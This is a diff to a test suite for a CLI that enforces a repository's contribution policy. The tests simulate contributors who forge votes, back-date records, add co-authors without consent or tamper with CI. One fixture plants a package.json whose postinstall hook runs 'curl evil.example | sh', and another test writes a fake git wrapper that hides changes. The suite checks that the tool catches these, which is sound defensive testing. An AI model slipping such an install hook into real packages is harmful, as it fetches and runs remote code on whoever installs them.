@@ -3,12 +3,12 @@
  * names the rule, the file and who may make the change; the allowed changes exit 0.
  */
 import { execFileSync } from 'node:child_process';
-import { symlinkSync } from 'node:fs';
+import { chmodSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { readFileSync } from 'node:fs';
-import { POLICY_RULES } from '../src/policy/policy.js';
-import { runCli } from './helpers/cli.js';
+import { policyRules } from '../src/policy/registry.js';
+import { runBinary, runCli } from './helpers/cli.js';
 import { git, tempDir } from './helpers/repo.js';
 import {
   BASE_TREE,
@@ -210,6 +210,8 @@ describe('ideas check: attacks fail', () => {
       path,
       /from reviewing a reviewer may move it to accepted/,
     );
+    // Validation's decision/transition says the same of the same file: printed once, as policy.
+    expect(result.rules).toEqual([`policy/transition ${path}`]);
   });
 
   it('a decision dated before the latest merged one', async () => {
@@ -568,6 +570,8 @@ describe('ideas check: more ways around the rules', () => {
     const forge = makeForge({ ...tree, 'src/app.ts': 'export {};\n' });
     branchAs(forge, 'erin', 'pr', {
       'src/app.ts': 'export const x = 1;\n',
+      'package.json': '{"scripts": {"postinstall": "curl evil.example | sh"}}\n',
+      '.npmrc': 'registry=http://127.0.0.1:9/\n',
       'team/ideas/votes/chat22/alice.md': voteText('chat22', 'alice'),
       'team/ideas/votes/chat22/erin.md': voteText('chat22', 'erin'),
       '.github/workflows/ideas.yml': 'on: push\n',
@@ -584,11 +588,15 @@ describe('ideas check: more ways around the rules', () => {
     };
     expect(report.changes.map((c) => c.path)).toEqual([
       '.github/workflows/ideas.yml',
+      '.npmrc',
+      'package.json',
       'team/ideas/votes/chat22/alice.md',
       'team/ideas/votes/chat22/erin.md',
     ]);
     expect(report.problems.map((p) => `${p.rule} ${p.file}`)).toEqual([
       'policy/reviewer-only .github/workflows/ideas.yml',
+      'policy/reviewer-only .npmrc',
+      'policy/reviewer-only package.json',
       'policy/vote-voter team/ideas/votes/chat22/alice.md',
     ]);
     expect(result.code).toBe(1);
@@ -621,7 +629,7 @@ describe('ideas check: more ways around the rules', () => {
 
   it('the README documents every policy rule', () => {
     const readme = readFileSync(join(import.meta.dirname, '..', 'README.md'), 'utf8');
-    for (const rule of Object.keys(POLICY_RULES)) expect(readme).toContain(`| \`${rule}\``);
+    for (const { id } of policyRules) expect(readme).toContain(`| \`${id}\``);
   });
 });
 
@@ -729,4 +737,260 @@ function CONFIG_WITH(reviewers: string): string {
     'reviewers: [carol, dave]',
     `reviewers: ${reviewers}`,
   );
+}
+
+describe('ideas check: records are judged by the base tip, consent and budgets', () => {
+  const rejected = {
+    'decisions/shipa1/2026-11-15-rejected.md': decisionText('shipa1', 'rejected', '2026-11-15', [
+      'carol',
+    ]).replace('agree on rejected.', 'agree on rejected: not this year.'),
+  };
+
+  it('a vote back-dated before the decision that closed its idea fails', async () => {
+    const forge = makeForge({ ...BASE_TREE, ...rejected });
+    // Dated 2026-11-10, before the rejection: validation alone would let it in.
+    branchAs(forge, 'erin', 'pr', { 'votes/shipa1/erin.md': voteText('shipa1', 'erin') });
+    const result = await check(forge, ['--actor', 'erin']);
+    expectViolation(result, 'policy/closed-idea', 'votes/shipa1/erin.md', /nobody may vote/);
+    expect(result.report?.problems.find((p) => p.rule === 'policy/closed-idea')?.message).toMatch(
+      /rejected on the base since 2026-11-15/,
+    );
+  });
+
+  it('a vote or an idea back-dated into a campaign closed on the base fails', async () => {
+    const config = `${BASE_TREE['ideas.config.yaml']}campaigns:\n  summer: {question: "What for summer?", closes: 2026-11-05}\n`;
+    const idea = ideaText('chat22', 'Live chat', ['dave']).replace(
+      'created: 2026-11-01',
+      'created: 2026-11-01\ncampaign: summer',
+    );
+    const forge = makeForge({
+      ...BASE_TREE,
+      'ideas.config.yaml': config,
+      'ideas/chat22-live-chat.md': idea,
+    });
+    branchAs(forge, 'erin', 'pr', {
+      'votes/chat22/erin.md': voteText('chat22', 'erin').replace('2026-11-10', '2026-11-02'),
+      'ideas/late11-late-idea.md': ideaText('late11', 'Late idea', ['erin']).replace(
+        'created: 2026-11-01',
+        'created: 2026-11-01\ncampaign: summer',
+      ),
+    });
+    const result = await check(forge, ['--actor', 'erin']);
+    expectViolation(result, 'policy/closed-campaign', 'votes/chat22/erin.md', /extends closes/);
+    expectViolation(
+      result,
+      'policy/closed-campaign',
+      'ideas/late11-late-idea.md',
+      /remove the campaign/,
+    );
+  });
+
+  it('adding a co-author without their commit fails; with it, it passes', async () => {
+    const path = 'ideas/duo111-night-deliveries.md';
+    const text = ideaText('duo111', 'Night deliveries', ['alice', 'bob']);
+    const alone = await attempt('alice', { [path]: text });
+    expectViolation(alone, 'policy/author-consent', path, /bob may add themselves/);
+
+    const forge = makeForge();
+    branchAs(forge, 'alice', 'pr', { [path]: text });
+    commitAs(forge.root, 'bob', { [path]: `${text}\nBob agrees.\n` }, 'bob signs');
+    const together = await check(forge, ['--actor', 'alice']);
+    expect(together.rules).toEqual([]);
+    expect(together.code).toBe(0);
+  });
+
+  it("adding someone to an existing idea's authors without their consent fails", async () => {
+    const path = 'ideas/shipa1-overnight-shipping.md';
+    const result = await attempt('alice', {
+      [path]: ideaText('shipa1', 'Overnight shipping', ['alice', 'erin']),
+    });
+    expectViolation(result, 'policy/author-consent', path, /erin may add themselves/);
+    // A reviewer may: dave adds erin to his own idea.
+    const byReviewer = await attempt('dave', {
+      'ideas/chat22-live-chat.md': ideaText('chat22', 'Live chat', ['dave', 'erin']),
+    });
+    expect(byReviewer.rules).toEqual([]);
+  });
+
+  it('an explicitly empty --actor is a usage error, not a fall-back on GITHUB_ACTOR', async () => {
+    const forge = makeForge();
+    branchAs(forge, 'erin', 'pr', { 'votes/chat22/erin.md': voteText('chat22', 'erin') });
+    const result = await check(forge, ['--actor', ''], { GITHUB_ACTOR: 'carol' });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('--actor is empty');
+  });
+
+  it("--open-prs warns when open branches together overspend a voter's budget", async () => {
+    const config = `${BASE_TREE['ideas.config.yaml']}voting: {mode: budget, budget: 2}\n`;
+    const forge = makeForge({ ...BASE_TREE, 'ideas.config.yaml': config });
+    branchAs(
+      forge,
+      'bob',
+      'other',
+      { 'votes/chat22/bob.md': voteText('chat22', 'bob') },
+      { push: true },
+    );
+    branchAs(forge, 'bob', 'pr', {
+      'votes/shipa1/bob.md': voteText('shipa1', 'bob').replace('points: 1', 'points: 2'),
+    });
+    const without = await check(forge, ['--actor', 'bob']);
+    expect(without.rules).toEqual([]);
+    const result = await check(forge, ['--actor', 'bob', '--open-prs']);
+    expect(result.code).toBe(0); // A warning: each branch alone is within the budget.
+    const warning = result.report?.problems.find((p) => p.rule === 'policy/open-pr-budget');
+    expect(warning?.file).toBe('votes/shipa1/bob.md');
+    expect(warning?.message).toContain(
+      'bob would spend 3 of a budget of 2 points once this branch and origin/other are merged',
+    );
+  });
+
+  it('an empty diff between trees that differ exits 3', async () => {
+    const forge = makeForge();
+    branchAs(forge, 'erin', 'pr', { 'votes/chat22/alice.md': voteText('chat22', 'alice') });
+    // A git that hides every change from "git diff --raw", as a tampered runner might.
+    const bin = tempDir('ideas-fake-git-');
+    const real = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
+    writeFileSync(
+      join(bin, 'git'),
+      `#!/bin/sh\nfor a in "$@"; do [ "$a" = "--raw" ] && exit 0; done\nexec ${real} "$@"\n`,
+    );
+    chmodSync(join(bin, 'git'), 0o755);
+    const result = runBinary(['check', '--base', 'origin/main', '--actor', 'erin'], {
+      cwd: forge.root,
+      env: { PATH: `${bin}:${process.env.PATH ?? ''}` },
+    });
+    expect(result.stderr).toContain('yet their trees differ');
+    expect(result.code).toBe(3);
+  });
+});
+
+describe('ideas check: the summary and the formats CI reads', () => {
+  it('--summary writes what the branch does and each idea rank before and after the merge', async () => {
+    const forge = makeForge();
+    // main moves on after the branch left it: the merge result is neither side alone.
+    commitAs(
+      forge.root,
+      'alice',
+      { 'votes/chat22/alice.md': voteText('chat22', 'alice') },
+      'alice votes',
+    );
+    git(forge.root, 'push', '-q', 'origin', 'main');
+    git(forge.root, 'checkout', '-q', '-b', 'pr', 'HEAD~1');
+    commitAs(
+      forge.root,
+      'erin',
+      {
+        'votes/chat22/erin.md': voteText('chat22', 'erin'),
+        'ideas/new111-a-pipe.md': ideaText('new111', 'A | pipe <b>', ['erin']),
+      },
+      'erin',
+    );
+    const summary = join(tempDir('ideas-summary-'), 'summary.md');
+    const result = await check(forge, ['--actor', 'erin', '--summary', summary]);
+    expect(result.code).toBe(0);
+    const text = readFileSync(summary, 'utf8');
+    expect(text).toContain('**Who acts:** erin (from --actor)');
+    expect(text).toContain('- New idea `new111` A \\| pipe \\<b\\>');
+    expect(text).toContain('- erin votes for `chat22`: 1 point');
+    // Base tip: shipa1 (bob) and chat22 (alice) have 1 vote each; merged, chat22 has 2.
+    expect(text).toMatch(
+      /\| `chat22` Live chat \| #\d, score 1, 1 vote \| #1, score 2, 2 votes \|/,
+    );
+    expect(text).toContain('| `new111` A \\| pipe \\<b\\> | – | #3, score 0, 0 votes |');
+    expect(text).toContain('after (merge result)');
+  });
+
+  it('a decision in the summary says whether the quorum is met', async () => {
+    const forge = makeForge();
+    branchAs(forge, 'carol', 'pr', {
+      'decisions/chat22/2026-11-20-reviewing.md': decisionText(
+        'chat22',
+        'reviewing',
+        '2026-11-20',
+        ['carol'],
+      ),
+    });
+    const summary = join(tempDir('ideas-summary-'), 'summary.md');
+    const result = await check(forge, ['--actor', 'carol'], { GITHUB_STEP_SUMMARY: summary });
+    expect(result.code).toBe(0);
+    expect(readFileSync(summary, 'utf8')).toContain(
+      '- Decision: `chat22` → reviewing, signed by carol: quorum 1 of 1 met ✅',
+    );
+  });
+
+  it('github format shows 10 error annotations, says how many more, and the summary lists all', async () => {
+    const files = Object.fromEntries(
+      Array.from({ length: 13 }, (_, i) => [
+        `votes/chat22/v${i}x.md`,
+        voteText('chat22', `v${i}x`),
+      ]),
+    );
+    const forge = makeForge();
+    branchAs(forge, 'erin', 'pr', files);
+    const summary = join(tempDir('ideas-summary-'), 'summary.md');
+    const result = await runCli(
+      [
+        'check',
+        '--base',
+        'origin/main',
+        '--actor',
+        'erin',
+        '--format',
+        'github',
+        '--summary',
+        summary,
+      ],
+      { cwd: forge.root },
+    );
+    expect(result.code).toBe(1);
+    const lines = result.stdout.split('\n');
+    const errors = lines.filter((l) => l.startsWith('::error '));
+    expect(errors).toHaveLength(10);
+    const total = lines.at(-2) ?? '';
+    const [, count = 0, warnings = 0] = (/^(\d+) errors, (\d+) warnings/.exec(total) ?? []).map(
+      Number,
+    );
+    expect(count).toBe(13); // Each forged vote, once.
+    expect(lines.filter((l) => l.startsWith('::warning '))).toHaveLength(10);
+    expect(lines.filter((l) => l.includes('not shown')).join('\n')).toBe(
+      `::notice title=ideas::${count - 10} more errors and ${warnings - 10} more warnings are not shown as annotations (GitHub shows 10 of each per step): the job summary lists them all`,
+    );
+    const text = readFileSync(summary, 'utf8');
+    expect(text).toContain(`### Problems (${count + warnings})`);
+    expect(text.split('\n').filter((l) => l.startsWith('| votes/chat22/'))).toHaveLength(
+      count + warnings,
+    );
+  });
+
+  it('gitlab format writes a Code Quality report', async () => {
+    const result = await runCliIn(
+      'erin',
+      { 'votes/chat22/alice.md': voteText('chat22', 'alice') },
+      ['--format', 'gitlab'],
+    );
+    expect(result.code).toBe(1);
+    const issues = JSON.parse(result.stdout) as {
+      description: string;
+      check_name: string;
+      fingerprint: string;
+      severity: string;
+      location: { path: string; lines: { begin: number } };
+    }[];
+    const forged = issues.find((i) => i.check_name === 'policy/vote-voter');
+    expect(forged).toMatchObject({
+      severity: 'major',
+      location: { path: 'votes/chat22/alice.md', lines: { begin: 3 } },
+    });
+    expect(forged?.description).toContain('erin added the vote of alice');
+    expect(forged?.fingerprint).toMatch(/^[0-9a-f]{64}$/);
+    expect(new Set(issues.map((i) => i.fingerprint)).size).toBe(issues.length);
+  });
+});
+
+async function runCliIn(person: string, files: Record<string, string>, args: string[]) {
+  const forge = makeForge();
+  branchAs(forge, person, 'pr', files);
+  return runCli(['check', '--base', 'origin/main', '--actor', person, ...args], {
+    cwd: forge.root,
+  });
 }
